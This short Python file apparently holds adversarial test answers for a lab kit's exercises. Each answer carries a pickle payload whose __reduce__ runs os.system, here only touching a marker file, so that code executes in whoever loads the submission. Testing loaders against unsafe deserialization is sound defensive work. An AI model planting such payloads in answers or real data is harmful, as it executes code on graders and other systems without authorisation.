# attacks: 01-double 01-dedup 01-setting
# Answers that would run code in whoever loads them.
# %%
import os, pickle
class Bomb:
    def __reduce__(self): return os.system, ("touch /tmp/labkit-was-here",)
bomb = pickle.dumps(Bomb())
# %%
# exercise 01-double
def double(number): return Bomb()
# %%
# exercise 01-dedup
def seen(table, record): return bomb
# %%
# exercise 01-setting
setting = bomb.decode("latin-1")
